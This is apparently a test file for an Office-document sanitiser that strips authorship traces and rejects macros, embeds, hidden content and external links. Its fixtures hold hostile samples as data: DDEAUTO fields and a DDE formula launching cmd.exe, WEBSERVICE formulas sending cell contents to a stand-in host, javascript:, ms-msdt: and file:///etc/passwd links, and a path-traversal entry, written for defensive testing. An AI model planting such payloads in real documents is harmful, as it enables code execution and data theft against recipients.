/** Word and Excel files as they are handed out: what would run, fetch or hide is refused by its name, who made them is gone. */
import { unzipSync, zipSync } from 'fflate'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import { cleanOffice } from '../../src/media/child/cleanOffice.ts'
import { DOCX, fileKind, HEAD, XLSX } from '../../src/policy/gate/fileKind.ts'
import { docxOf, relation, xlsxOf } from '../support/office.ts'

const text = (bytes: Buffer, name: string): string => Buffer.from(unzipSync(bytes)[name] ?? new Uint8Array()).toString()
const taken = async (bytes: Buffer) => {
  const answer = await cleanOffice(bytes)
  if (!('bytes' in answer)) throw new Error(JSON.stringify(answer))
  return answer
}
const field = (code: string): string => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r></w:p>`

describe('a Word file', () => {
  it('keeps its words and says no more who made it, on which machine and from which template', async () => {
    const photo = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#284' } })
      .withExif({ IFD0: { Artist: 'Nguyen Van A' } })
      .jpeg()
      .toBuffer()
    const before = docxOf({
      settings: '<w:attachedTemplate r:id="rId9"/><w:rsids><w:rsid w:val="00A1"/></w:rsids><w:zoom w:percent="100"/>',
      rels:
        relation('rId3', 'hyperlink', 'https://moet.gov.vn/', true) +
        relation('rId4', 'image', 'media/image1.jpeg') +
        relation('rId5', 'customXml', '../customXml/item1.xml'),
      more: {
        'word/_rels/settings.xml.rels': `<Relationships>${relation('rId9', 'attachedTemplate', 'file:///C:/Users/nguyenvana/mau.dotm', true)}</Relationships>`,
        'word/media/image1.jpeg': photo,
        'customXml/item1.xml': '<x>Nguyen Van A</x>',
        'docProps/app.xml': '<Properties><Company>Nguyen Van A</Company></Properties>',
      },
    })
    const { bytes, lienKet } = await taken(before)
    expect(lienKet).toEqual(['https://moet.gov.vn/'])
    expect(text(bytes, 'word/document.xml')).toContain('Biểu mẫu')
    expect(text(bytes, 'word/settings.xml')).toContain('<w:settings xmlns:w="w"><w:zoom w:percent="100"></w:zoom></w:settings>')
    expect(Object.keys(unzipSync(bytes)).toSorted()).toEqual(['[Content_Types].xml', '_rels/.rels', 'word/_rels/document.xml.rels', 'word/_rels/settings.xml.rels', 'word/document.xml', 'word/media/image1.jpeg', 'word/settings.xml']) // prettier-ignore
    const all = Object.values(unzipSync(bytes)).map((part) => Buffer.from(part).toString('latin1')).join() // prettier-ignore
    for (const trace of ['Nguyen', 'nguyenvana', 'mau.dotm', 'docProps', 'customXml']) expect([trace, all.includes(trace)]).toEqual([trace, false])
    expect(fileKind(bytes.subarray(0, HEAD))).toEqual({ loai: 'tep', kieu: DOCX })
    // Cleaned again it is itself: its fingerprint holds.
    expect((await taken(bytes)).bytes.equals(bytes)).toBe(true)
  })

  it.each([
    ['macro', docxOf({ more: { 'word/vbaProject.bin': 'x' } })],
    ['macro', docxOf({ types: '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>' })],
    ['activeX', docxOf({ more: { 'word/activeX/activeX1.xml': '<x/>' } })],
    ['embedded', docxOf({ more: { 'word/embeddings/oleObject1.bin': 'x' } })],
    ['embedded', docxOf({ body: '<w:altChunk r:id="rId3"/>' })],
    ['embedded', docxOf({ body: '<w:p><o:OLEObject xmlns:o="o"/><o:oleObject/></w:p>' })],
    ['external', docxOf({ rels: relation('rId3', 'image', 'https://x.example/a.png', true) })],
    ['external', docxOf({ rels: relation('rId3', 'frame', 'https://x.example/', true) })],
    ['tracked', docxOf({ body: '<w:p><w:del w:author="A"><w:r><w:delText>bí mật</w:delText></w:r></w:del></w:p>' })],
    ['hidden', docxOf({ body: '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>bí mật</w:t></w:r></w:p>' })],
    ['comments', docxOf({ more: { 'word/comments.xml': '<x/>' } })],
    ['field', docxOf({ body: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') })],
    [
      'field',
      docxOf({ body: '<w:p><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "https://x.example/a.png"</w:instrText></w:r></w:p>' }),
    ],
    ['field', docxOf({ body: '<w:fldSimple w:instr=" includetext &quot;\\\\\\\\may\\\\tep&quot;"/>' })],
    ['picture', docxOf({ more: { 'word/media/image1.emf': 'x' } })],
    ['picture', docxOf({ more: { 'word/media/image1.png': '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>' } })],
    ['doctype', docxOf({ more: { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' } })],
    ['unknown', docxOf({ more: { 'word/../../etc/passwd': 'x' } })],
    ['unknown', docxOf({ more: { 'word/chay.exe': 'MZ' } })],
    ['unknown', docxOf({ more: { 'word/styles.xml': new Uint8Array([0xff, 0xfe, 0x3c, 0x00]) } })],
    ['unknown', docxOf({ more: { 'xl/workbook.xml': '<x/>' } })],
    ['unknown', docxOf({ more: { 'word/styles.xml': Buffer.from('<w:p><w:vanish/></w:p>', 'utf16le') } })],
    ['unknown', docxOf({ body: field('').replace('<w:instrText>', '<w:instrText><x:instrText/>DDEAUTO') })],
    ['hidden', docxOf({ more: { 'word/styles9.xml': '<w:styles><w:vanish/></w:styles>' } })],
    ['hidden', docxOf({ body: '<w:p><w:vanish x:val="0"/></w:p>' })],
    ['tracked', docxOf({ body: '<w:tbl><w:cellIns w:author="A"/></w:tbl>' })],
    ['field', docxOf({ body: field('DD').replace('</w:r></w:p>', '</w:r></w:p><x:p/><w:r><w:instrText>EAUTO c:\\\\x</w:instrText></w:r>') })],
    ['field', docxOf({ body: '<w:fldSimple x:instr="PAGE" w:instr="INCLUDEPICTURE x"/>' })],
    ['field', docxOf({ body: field('PRINT "x"') })],
    ['external', docxOf({ body: '<v:imagedata src="http://x.example/t.png"/>' })],
    ['embedded', docxOf({ body: '<o:OLEObject Type="Embed"/>' })],
  ])('with %s is refused by that: %#', async (fault, bytes) => expect(await cleanOffice(bytes)).toMatchObject({ fault }))

  it('that leads to a file of its reader, or to a script, is refused by that address', async () => {
    for (const url of ['javascript:alert(1)', 'file:///etc/passwd'])
      expect(await cleanOffice(docxOf({ rels: relation('rId3', 'hyperlink', url, true) }))).toEqual({ badLink: url })
  })

  it('shows whoever opens it what was judged: what another reader would have seen is not written', async () => {
    for (const hidden of ['<w:vanish/>bí mật', '<w:instrText>DDEAUTO x</w:instrText>']) {
      const { bytes } = await taken(docxOf({ body: `<w:p/><?x > <!-- ?>${hidden}<?x --> ?><w:p><w:r><w:t>thấy</w:t></w:r></w:p>` }))
      expect([text(bytes, 'word/document.xml').includes('bí mật'), /DDEAUTO|vanish|<!--|<\?x /.test(text(bytes, 'word/document.xml')), text(bytes, 'word/document.xml').includes('thấy')]).toEqual([false, false, true]) // prettier-ignore
    }
  })

  it('keeps neither parts nothing leads to nor fonts, and lets go of relations to what is not there', async () => {
    const bytes = docxOf({ rels: relation('rId7', 'font', 'fonts/a.odttf') + relation('rId8', 'printerSettings', 'printerSettings/p.bin'), body: '<w:p><w:x r:id="rId8"/></w:p>', more: { 'word/fonts/a.odttf': 'MZ chạy', 'docMetadata/LabelInfo.xml': '<x/>', 'word/core.xml': '<dc:creator>Nguyen</dc:creator>' } }) // prettier-ignore
    const doc = unzipSync(bytes)
    doc['word/_rels/document.xml.rels'] = Buffer.from(Buffer.from(doc['word/_rels/document.xml.rels']!).toString().replace(/<Relationship Id="rIdM\d+"[^>]*core\.xml"\/>/, '')) // prettier-ignore
    const clean = await taken(Buffer.from(zipSync(doc)))
    expect(Object.keys(unzipSync(clean.bytes)).toSorted()).toEqual(['[Content_Types].xml', '_rels/.rels', 'word/_rels/document.xml.rels', 'word/document.xml'])
    expect(text(clean.bytes, 'word/document.xml')).not.toContain('rId8')
  })

  it('of any length is read in its time: nothing in it grows with its square', async () => {
    const from = performance.now()
    await cleanOffice(docxOf({ settings: `<w:t><![CDATA[${'<absPath '.repeat(200_000)}]]></w:t>` }))
    await cleanOffice(docxOf({ body: '<w:instrText>abcdefgh</w:instrText>'.repeat(80_000) }))
    await cleanOffice(docxOf({ settings: '<w:rsids>'.repeat(40_000) }))
    // What grows with its square takes minutes: the child would be ended long before.
    expect(performance.now() - from).toBeLessThan(60_000)
  }, 120_000)

  it('cut at each tenth, or no file at all, is unreadable; a bomb is too large and stops as it grows', async () => {
    const whole = docxOf()
    for (let tenth = 1; tenth < 9; tenth += 1) expect(await cleanOffice(whole.subarray(0, (whole.length * tenth) / 10))).not.toHaveProperty('bytes')
    expect(await cleanOffice(Buffer.from('PK\x03\x04 word/document.xml'))).not.toHaveProperty('bytes')
    const bomb = Buffer.from(zipSync({ '[Content_Types].xml': Buffer.from('<x/>'), 'word/document.xml': Buffer.alloc(100_000_000) }))
    expect([bomb.length < 200_000, await cleanOffice(bomb)]).toEqual([true, { refused: 'OFFICE_TOO_LARGE' }])
  }, 60_000)
})

describe('what was called otherwise', () => {
  const links = async (bytes: Buffer): Promise<unknown> => cleanOffice(bytes).then((answer) => ('lienKet' in answer ? answer.lienKet : answer))
  const run = (code: string): string => `<w:r><w:instrText>${code}</w:instrText></w:r>`
  const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
  it.each<[string, Buffer, unknown]>([
    ['a field with an anchor leads where it leads', docxOf({ body: field('HYPERLINK "https://x.example/a" \\l "b"') }), ['https://x.example/a']],
    ['whatever stands first', docxOf({ body: field('HYPERLINK \\l "b" "https://x.example/a"') }), ['https://x.example/a']],
    ['an anchor alone leads nowhere', docxOf({ body: field('HYPERLINK \\l "b"') }), []],
    ['another scheme', docxOf({ body: field('HYPERLINK "ms-msdt:/id Diag" \\l "a"') }), { badLink: 'ms-msdt:/id Diag' }],
    ['a script in a simple field', docxOf({ body: '<w:fldSimple w:instr="HYPERLINK javascript:alert(1) \\l a"/>' }), { badLink: 'javascript:alert(1)' }],
    [
      'a field in the words of a link',
      docxOf({ body: mark('begin') + run('HYPERLINK ') + mark('begin') + run('QUOTE "file://x"') + mark('end') + mark('end') }),
      { fault: 'field' },
    ],
    [
      'a field whose name a field says',
      docxOf({ body: mark('begin') + mark('begin') + run('QUOTE HYPERLINK') + mark('end') + run(' "http://x"') + mark('end') }),
      { fault: 'field' },
    ],
    [
      'a list of contents with its links',
      docxOf({
        body: mark('begin') + run('TOC \\o') + mark('separate') + mark('begin') + run('HYPERLINK \\l "_Toc1"') + mark('separate') + mark('end') + mark('end'),
      }),
      [],
    ],
    [
      'a picture fetched by a link',
      docxOf({ rels: relation('rId3', 'hyperlink', 'https://x.example/a.png', true), body: '<a:blip r:link="rId3"/>' }),
      { fault: 'external' },
    ],
    ['a fraction', docxOf({ body: '<m:oMath><m:f><m:num><m:r><m:t>1</m:t></m:r></m:num><m:den><m:r><m:t>2</m:t></m:r></m:den></m:f></m:oMath>' }), []],
    ['another document', docxOf({ body: '<w:subDoc r:id="rId3"/>' }), { fault: 'embedded' }],
    ['hidden under a prefix of its own', docxOf({ body: '<q:vanish w:val="0" q:val="1"/>' }), { fault: 'hidden' }],
    ['hidden switched off is not written', docxOf({ body: '<w:vanish w:val="0"/>' }), []],
    [
      'a name that says one thing and a part that is another',
      xlsxOf({ more: { 'xl/styles.xml': '<connections><dbPr/></connections>' } }),
      { fault: 'unknown' },
    ],
  ])('%s', async (_what, bytes, expected) =>
    expect(await links(bytes)).toEqual(Array.isArray(expected) ? expected : expect.objectContaining(expected as object)),
  )

  const excel = (rels: string, more: Record<string, string>): Buffer => {
    const parts = unzipSync(xlsxOf())
    const own = Buffer.from(parts['xl/_rels/workbook.xml.rels']!).toString().replace('</Relationships>', `${rels}</Relationships>`)
    return Buffer.from(zipSync({ ...parts, 'xl/_rels/workbook.xml.rels': Buffer.from(own), ...Object.fromEntries(Object.entries(more).map(([name, text]) => [name, Buffer.from(text)])) })) // prettier-ignore
  }
  it.each<[string, Buffer, unknown]>([
    ['connections', excel(relation('rId7', 'connections', 'x.xml'), { 'xl/x.xml': '<connections/>' }), { fault: 'external' }],
    [
      'a link to another book',
      excel(relation('rId7', 'externalLink', 'x.xml'), { 'xl/x.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
      { fault: 'external' },
    ],
    ['a sheet of macros', excel(relation('rId7', 'xlMacrosheet', 'x.xml'), { 'xl/x.xml': '<macrosheet/>' }), { fault: 'macro' }],
    ['remarks', excel(relation('rId7', 'comments', 'x.xml'), { 'xl/x.xml': '<comments/>' }), { fault: 'comments' }],
    [
      'a sheet nobody can turn to',
      excel(relation('rId7', 'worksheet', 'worksheets/sheet2.xml'), { 'xl/worksheets/sheet2.xml': '<worksheet/>' }),
      { fault: 'hidden' },
    ],
    [
      'a link to another book, called styles',
      excel(relation('rId7', 'styles', 'x.xml'), { 'xl/x.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
      { fault: 'unknown' },
    ],
    ['one part that is two things', excel(relation('rId7', 'styles', 'worksheets/sheet1.xml'), {}), { fault: 'unknown' }],
    ['what nobody knows', excel(relation('rId7', 'something', 'x.xml'), { 'xl/x.xml': '<x/>' }), { fault: 'unknown' }],
    ['what is of no use is left out', excel(relation('rId7', 'calcChain', 'x.xml'), { 'xl/x.xml': '<calcChain/>' }), []],
    ['metadata of arrays that spill', excel(relation('rId7', 'sheetMetadata', 'metadata.xml'), { 'xl/metadata.xml': '<metadata/>' }), []],
    ['pictures in cells', excel(relation('rId7', 'rdRichValue', 'x.xml'), { 'xl/x.xml': '<rvData/>' }), { fault: 'picture' }],
    ['choices from another sheet', xlsxOf({ rows: '</sheetData><x14:formula1><xm:f>S!$A$1:$A$3</xm:f></x14:formula1><sheetData>' }), []],
    ['choices fetched', xlsxOf({ rows: '</sheetData><x14:formula1><xm:f>WEBSERVICE("http://x/")</xm:f></x14:formula1><sheetData>' }), { fault: 'formula' }],
    [
      'a drawing behind a hidden column that is empty',
      xlsxOf({ before: '<cols><col min="1" max="1" hidden="1"/></cols>', cells: '<c r="A1"/>', rows: '</sheetData><xm:f>S!A1</xm:f><sheetData>' }),
      [],
    ],
    ['a cell that says not where it stands', xlsxOf({ rows: '<row r="2" hidden="1"><c><v>9</v></c></row>' }), { fault: 'hidden' }],
    [
      'the second cell of a hidden column',
      xlsxOf({ before: '<cols><col min="2" max="2" hidden="1"/></cols>', rows: '<row><c><v>1</v></c><c><v>9</v></c></row>' }),
      { fault: 'hidden' },
    ],
    ['an odd place', xlsxOf({ cells: '<c r="$A2"><v>9</v></c>' }), { fault: 'unknown' }],
    ['a column of no width', xlsxOf({ before: '<cols><col min="1" max="1" width="0.10"/></cols>' }), { fault: 'hidden' }],
    ['a row of no height', xlsxOf({ rows: '<row r="2" ht="0.0"><c r="A2"><v>9</v></c></row>' }), { fault: 'hidden' }],
    ['rows hidden all at once', xlsxOf({ before: '<sheetFormatPr zeroHeight="1"/>' }), { fault: 'hidden' }],
    ['a state with a blank', xlsxOf({ sheets: '<sheet name="A" sheetId="1" r:id="rId1" state="hidden "/>' }), { fault: 'hidden' }],
    ['behind a column name', xlsxOf({ cells: '<c><f>T[x\'#]&amp;WEBSERVICE("http://x/"&amp;B1)&amp;T[x\'#]</f></c>' }), { fault: 'formula' }],
    ['handed on by its name', xlsxOf({ cells: '<c><f>MAP(B1,_xleta.WEBSERVICE)</f></c>' }), { fault: 'formula' }],
    ['a link handed on', xlsxOf({ cells: '<c><f>MAP(B1,_xleta.HYPERLINK)</f></c>' }), { fault: 'formula' }],
    ['a word in a text, a sheet and a table', xlsxOf({ cells: '<c><f>"CALL("&amp;Image!A1&amp;\'RTD a\'!B2&amp;T[CALL]</f></c>' }), []],
  ])('%s', async (_what, bytes, expected) =>
    expect(await links(bytes)).toEqual(Array.isArray(expected) ? expected : expect.objectContaining(expected as object)),
  )

  it('what is hidden is told by its place', async () => {
    const cho = async (bytes: Buffer): Promise<unknown> => (await cleanOffice(bytes)) as { cho?: string }
    const column = xlsxOf({ before: '<cols><col min="28" max="28" hidden="1"/></cols>', cells: '<c r="AB1"><v>9</v></c>' })
    expect(await cho(column)).toEqual({ fault: 'hidden', cho: 'cột AB' })
    expect(await cho(xlsxOf({ rows: '<row r="7" hidden="1"><c r="A7"><v>9</v></c></row>' }))).toEqual({ fault: 'hidden', cho: 'hàng 7' })
    expect(await cho(xlsxOf({ sheets: '<sheet name="Hộ nghèo" sheetId="1" r:id="rId1" state="hidden"/>' }))).toEqual({
      fault: 'hidden',
      cho: 'trang tính “Hộ nghèo”',
    })
  })

  it('many columns, cells, elements and texts are read in their time or refused', async () => {
    const columns = xlsxOf({ before: `<cols>${'<col min="1" max="16384" hidden="1"/>'.repeat(16_000)}</cols>`, cells: '<c/>'.repeat(400_000) })
    const from = performance.now()
    expect(await cleanOffice(columns)).toHaveProperty('bytes')
    expect(await cleanOffice(docxOf({ body: '<w:r/>'.repeat(4_000_000) }))).toEqual({ refused: 'OFFICE_TOO_LARGE' })
    expect(await cleanOffice(docxOf({ body: `<w:t>${'&amp;'.repeat(4_500_000)}</w:t>` }))).toEqual({ refused: 'OFFICE_TOO_LARGE' })
    // What grows with its square takes minutes.
    expect(performance.now() - from).toBeLessThan(60_000)
  }, 120_000)
})

describe('an Excel file', () => {
  it('keeps its cells, without the folder it lay in', async () => {
    const { bytes } = await taken(xlsxOf({ cells: '<c r="A1"><f>SUM(B1:B3)</f><v>6</v></c><c r="A2"><f>HYPERLINK("https://moet.gov.vn/","Bộ")</f></c>' }))
    expect([text(bytes, 'xl/workbook.xml').includes('nguyenvana'), text(bytes, 'xl/worksheets/sheet1.xml').includes('SUM(B1:B3)')]).toEqual([false, true])
    expect(fileKind(bytes.subarray(0, HEAD))).toEqual({ loai: 'tep', kieu: XLSX })
  })
  it('may hide columns nothing stands in', async () =>
    expect(await taken(xlsxOf({ before: '<cols><col min="5" max="16384" hidden="1"/></cols>' }))).toHaveProperty('bytes'))
  it.each([
    ['hidden', xlsxOf({ sheets: '<sheet name="A" state="veryHidden"/>' })],
    ['hidden', xlsxOf({ rows: '<row r="2" hidden="1"><c r="A2"><v>9</v></c></row>' })],
    ['hidden', xlsxOf({ before: '<cols><col min="2" max="3" hidden="1"/></cols>', cells: '<c r="B1"><v>9</v></c>' })],
    ['formula', xlsxOf({ workbook: '<definedNames><definedName name="a">_xlfn.WEBSERVICE("http://x/")</definedName></definedNames>' })],
    ['formula', xlsxOf({ cells: '<c><f>\'it"s\'!A1&amp;WEBSERVICE("http://x/"&amp;A2)</f></c>' })],
    ['unknown', xlsxOf({ cells: '<c><f><x:f/>WEBSERVICE("http://x/")</f></c>' })],
    ['formula', xlsxOf({ cells: '<c><f>WEBSERVICE("https://x.example/?"&amp;A1)</f></c>' })],
    ['formula', xlsxOf({ cells: "<c><f>cmd|'/c calc'!A0</f></c>" })],
    ['formula', xlsxOf({ cells: '<c><f>HYPERLINK("https://x.example/?"&amp;A1,"x")</f></c>' })],
    ['external', xlsxOf({ more: { 'xl/externalLinks/externalLink1.xml': '<x/>' } })],
    ['pivot', xlsxOf({ more: { 'xl/pivotCache/pivotCacheRecords1.xml': '<x/>' } })],
    ['macro', xlsxOf({ more: { 'xl/macrosheets/sheet1.xml': '<x/>' } })],
  ])('with %s is refused by that: %#', async (fault, bytes) => expect(await cleanOffice(bytes)).toMatchObject({ fault }))
})
